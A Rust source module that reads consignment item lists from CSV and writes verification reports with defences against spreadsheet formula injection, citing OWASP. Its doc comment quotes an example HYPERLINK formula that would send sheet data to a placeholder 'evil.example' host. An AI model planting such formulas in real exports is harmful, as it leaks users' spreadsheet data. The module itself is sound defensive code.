//! A consignment list read from CSV, and its report written as CSV: the verifier's
//! `text/csv` answer, the consignment page's download and `nanotrace verify --manifest
//! --csv` are this one writer.
//!
//! The report is opened in spreadsheets, and its cells carry what a package's code says
//! (an item) and what a certifier wrote (a revocation's reason). A spreadsheet runs a cell
//! that starts with `=`, `+`, `-` or `@` (and TAB or CR before one) as a formula: a code
//! printed as `=HYPERLINK("http://evil.example/?q="&A1,"Verify")` would become a link that
//! sends the sheet's data away. Following OWASP's guidance on CSV injection
//! (<https://owasp.org/www-community/attacks/CSV_Injection>), every cell is quoted, its
//! quotes doubled, and a cell that starts with one of those characters is written with a
//! single quote `'` before it — and so is each place inside a cell that follows a
//! character a spreadsheet may split cells or rows on (`,` `;` TAB CR LF), since a
//! spreadsheet that guesses another separator would start a cell there. The JSON report
//! is not changed: it says what was given.

use super::ItemReport;

/// The report's CSV columns.
pub const HEADER: [&str; 8] =
    ["index", "input", "outcome", "verdict", "certificate_id", "problem", "reason", "foreign_site"];

/// What a spreadsheet reads as the start of a formula (OWASP's list).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Where a spreadsheet may start a new cell or row inside what CSV quotes as one.
const SPLITS: [char; 5] = [',', ';', '\t', '\r', '\n'];

/// Why a CSV list cannot be read.
#[derive(Debug, thiserror::Error)]
pub enum CsvError {
    /// Not CSV (a quote not closed, not UTF-8…), with the line.
    #[error("line {line}: {message}")]
    Syntax {
        /// The line (from 1).
        line: u64,
        /// What the CSV reader said.
        message: String,
    },
}

/// The items of a CSV list: the first field of each record, blank records skipped, a
/// first record `item` (any case) taken as a header.
pub fn read_items(text: &[u8]) -> Result<Vec<String>, CsvError> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text);
    let mut items = Vec::new();
    for (n, record) in reader.records().enumerate() {
        let record = record.map_err(|e| CsvError::Syntax {
            line: e.position().map_or(0, csv::Position::line),
            message: e.to_string(),
        })?;
        let first = record.get(0).unwrap_or("").trim();
        if n == 0 && first.eq_ignore_ascii_case("item") {
            continue;
        }
        if record.iter().all(|f| f.trim().is_empty()) {
            continue;
        }
        items.push(first.to_owned());
    }
    Ok(items)
}

/// `cell` as text a spreadsheet shows and never runs: `'` before a formula's first
/// character at its start and after each place a spreadsheet may split it.
pub fn neutralise(cell: &str) -> String {
    let mut out = String::with_capacity(cell.len() + 1);
    let mut at_start = true;
    for c in cell.chars() {
        if at_start && FORMULA_START.contains(&c) {
            out.push('\'');
        }
        out.push(c);
        at_start = SPLITS.contains(&c);
    }
    out
}

/// The report's items as CSV ([`HEADER`] first), every cell quoted and
/// [`neutralise`]d.
pub fn write_report(items: &[ItemReport]) -> Vec<u8> {
    let mut writer = csv::WriterBuilder::new().quote_style(csv::QuoteStyle::Always).from_writer(Vec::new());
    let mut rows = vec![HEADER.map(str::to_owned).to_vec()];
    for i in items {
        rows.push(vec![
            i.index.to_string(),
            i.input.clone(),
            i.outcome.as_str().to_owned(),
            i.verdict.map(|v| v.as_str().to_owned()).unwrap_or_default(),
            i.certificate_id.clone().unwrap_or_default(),
            i.problem.map(|p| p.as_str().to_owned()).unwrap_or_default(),
            i.reason.clone(),
            i.foreign_site.clone().unwrap_or_default(),
        ]);
    }
    for row in rows {
        // Writing to memory fails only if the row is malformed, which these are not.
        let _ = writer.write_record(row.iter().map(|cell| neutralise(cell)));
    }
    writer.into_inner().unwrap_or_default()
}
